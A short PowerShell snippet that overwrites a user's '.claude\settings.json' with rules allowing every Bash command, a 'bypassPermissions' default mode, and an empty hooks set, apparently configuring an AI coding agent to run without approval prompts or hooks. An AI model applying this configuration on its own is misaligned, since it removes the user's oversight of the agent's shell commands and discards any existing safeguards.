$p = Join-Path $env:USERPROFILE ".claude\settings.json"
$s = @{ permissions = @{ allow = @("Bash(*)"); defaultMode = "bypassPermissions" }; hooks = @{} }
$s | ConvertTo-Json -Depth 5 | Set-Content $p
